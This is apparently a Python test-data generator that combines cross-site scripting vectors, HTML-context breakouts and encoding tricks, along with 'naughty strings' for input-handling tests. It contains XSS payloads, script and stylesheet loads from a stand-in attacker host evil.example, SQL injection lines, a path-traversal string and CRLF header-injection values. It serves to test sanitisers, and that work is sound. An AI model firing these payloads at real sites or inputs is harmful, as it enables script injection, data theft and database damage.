"""Words that try to become part of a page, and words that programs stumble over. All are made here, by rule."""

from __future__ import annotations

import html
import itertools
from collections.abc import Callable, Iterator
from urllib.parse import quote

RUNS = "alert(1)"  # what would run; the browser tests listen for it
BREAKS = (  # out of whatever the words stand in
    "",
    '">',
    "'>",
    '"',
    "' ",
    "`>",
    "-->",
    "]]>",
    '\\">',
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</option></select>",
    "</svg>",
    "</a></td></table>",
    "<!--",
    "<![CDATA[",
    "<svg><style>",
    "<math><mtext><table><mglyph><style>",
)
VECTORS = (
    f"<script>{RUNS}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<ScRiPt type=module>{RUNS}</sCrIpT>",
    f"<img src=x onerror={RUNS}>",
    f"<img/src='x'/onerror={RUNS}//",
    "<img src=//evil.example/x.png>",
    f"<svg onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUNS}'><text y=20>x</text></a></svg>",
    f"<body onload={RUNS}>",
    f"<iframe src='javascript:{RUNS}'></iframe>",
    f"<iframe srcdoc='<script>{RUNS}</script>'></iframe>",
    f"<details open ontoggle={RUNS}>",
    f"<input autofocus onfocus={RUNS}>",
    f"<select autofocus onfocus={RUNS}>",
    f"<video><source onerror={RUNS}></video>",
    f"<audio src=x onerror={RUNS}>",
    f"<object data='javascript:{RUNS}'></object>",
    f"<embed src='javascript:{RUNS}'>",
    f"<form action='javascript:{RUNS}'><button autofocus>x</button></form>",
    f"<button form=x formaction='javascript:{RUNS}'>x</button>",
    f"<a href='javascript:{RUNS}'>x</a>",
    f"<a href='data:text/html,<script>{RUNS}</script>'>x</a>",
    f"<math href='javascript:{RUNS}'>x</math>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUNS}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    f"<p style=animation-name:x onanimationstart={RUNS}>x",
    f"x onmouseover={RUNS} autofocus tabindex=1 onfocus={RUNS} x",
    f"<marquee onstart={RUNS}>x</marquee>",
    f"<template><script>{RUNS}</script></template><slot onslotchange={RUNS}>",
    f"<custom-tag onclick={RUNS} tabindex=1 autofocus onfocus={RUNS}>",
    f"{{{{ ''.__class__ }}}}{{% include 'base.html' %}}<script>{RUNS}</script>",
    f"${{{RUNS}}}#{{{RUNS}}}<%= {RUNS} %>",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUNS}&#62;",
)
GUISES: tuple[Callable[[str], str], ...] = (
    lambda words: words,
    html.escape,  # once more unescaped than it was escaped?
    quote,
    lambda words: quote(quote(words)),
    lambda words: words.replace("<", "\uff1c").replace(">", "\uff1e"),  # wide signs that a system may narrow
    lambda words: words.replace("<", "<\u200b").replace("script", "scr\u0000ipt"),
    lambda words: words.replace(" ", "\t\n").replace("=", "\n=\t"),
    lambda words: words.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda words: words.upper().replace("ALERT", "alert"),
    lambda words: words.replace("<", "&lt;<").replace("alert(1)", "&#97;lert(1)"),
    lambda words: f"\u202e{words}\u202c",
)
SCHEMES = (
    "javascript:",
    "data:text/html,",
    "data:text/html;base64,",
    "vbscript:",
    "file:///",
    "blob:",
    "//",
    "\\\\",
)
DISGUISES = (
    "",
    " ",
    "\t",
    "\n",
    "\x01",
    "\u00a0",
    "java\tscript:",
    "JaVaScRiPt:",
    "&#106;avascript:",
    "https:",
)


def injections(many: int = 900) -> list[str]:
    """So many different ones, of every break, vector and guise."""
    every = [guise(breaks + vector) for guise, vector, breaks in itertools.product(GUISES, VECTORS, BREAKS)]
    every = list(dict.fromkeys(every))
    step = len(every) // many
    return [*every[::step]][:many]


def addresses() -> list[str]:
    """Addresses that are not to be followed."""
    bodies = (RUNS, f"<script>{RUNS}</script>", "evil.example/", f"//evil.example/%0a{RUNS}")
    return [d + s + b for s, d, b in itertools.product(SCHEMES, DISGUISES, bodies)]


def naughty(many: int = 500) -> list[str]:
    """Strings that are nothing bad, and that something somewhere takes for something else."""
    every = (
        *_signs(),
        *RESERVED.split(),
        *LINES.strip("\n").split("\n"),
        *BROKEN,
        *_long(),
        *_tags(),
        *_piles(),
    )
    return list(dict.fromkeys(every))[:many]


RESERVED = """undefined undef null NULL (null) nil NIL true false True False None NaN Infinity -Infinity 0 1
-1 1.00 $1.00 1/2 1E2 0x0 0xffffffff 0o17 1_000 01000 08 -0 +0 0.0 1,000.00 1e309 INF 1#INF
-1#IND 1#QNAN 2147483648 ٣٤٥ １２３ ½ ① Ⅻ 999999999999999999999 -9223372036854775809 CON PRN AUX
NUL COM1 LPT1 con.txt ../../etc/passwd ..\\..\\boot.ini /dev/null ~ ~root . .. C:\\ ' '' \"
\"\" ` \\ \\\\ \\' %s %d %n %x%x %00 %0a %2e%2e {0} {} {{}} ${x} $(x) `x` $HOME !! ; & && | ||"""
LINES = """
1' OR '1'='1
1; DROP TABLE lines--
' UNION SELECT 1--
Robert'); --
Ω≈ç√∫˜µ≤≥÷
åß∂ƒ©˙∆˚¬…æ
œ∑´®†¥¨ˆøπ“‘
田中さんにあげて下さい
사회과학원 어학연구소
בְּרֵאשִׁית
הָיְתָהtestالصفحات
﷽
ﷺ
👩🏽
👨‍👩‍👦
🏳️‍🌈
🇺🇸🇷🇺
(╯°□°)╯︵ ┻━┻
¯\\_(ツ)_/¯
Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤
ɐɹƃɐ ɐuƃɐɯ
"""
BROKEN = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b[2J",
    "\r\nSet-Cookie: a=b",
    "\r\n\r\n<html>",
    "a\rb",
    "a\r\nb",
)
WORDS = ("script", "style", "title", "hidden", "href", "constructor", "__proto__", "toString", "desk.js")


def _signs() -> Iterator[str]:
    """Signs that nobody sees, or that turn the writing round."""
    for sign in (*range(0x20), *range(0x7F, 0xA1), 0xAD, 0xFEFF, 0xFFFD, 0xFFFE, 0xFFFF):
        yield f"a{chr(sign)}b"
    unseen = (*range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070), 0x061C, 0x180E, 0x3164)
    for sign in unseen:
        yield f"{chr(sign)}abc{chr(sign)}"
        yield chr(sign)


def _long() -> Iterator[str]:
    """Much of one thing."""
    signs = ("a", "W", "\u0301", "💥", "<", "&", "&amp;", "/", "\n", " ")
    yield from (sign * many for sign in signs for many in (255, 5000))


def _tags() -> Iterator[str]:
    """Words that mean something to a browser."""
    for words in WORDS:
        yield from (words, f"<{words}", f"{words}>", f"&{words};", f"[{words}]({words})")


def _piles() -> Iterator[str]:
    """Faces, signs upon signs, and writing from right to left around a number."""
    yield from (f"{chr(number)}{chr(number)}" for number in range(0x1F600, 0x1F650))
    yield from (f"e{chr(number)}{chr(number + 1)}" for number in range(0x0300, 0x0370, 2))
    yield from (f"{chr(number)}{chr(number + 1)} 5,200 {chr(number)}" for number in range(0x0590, 0x0700))
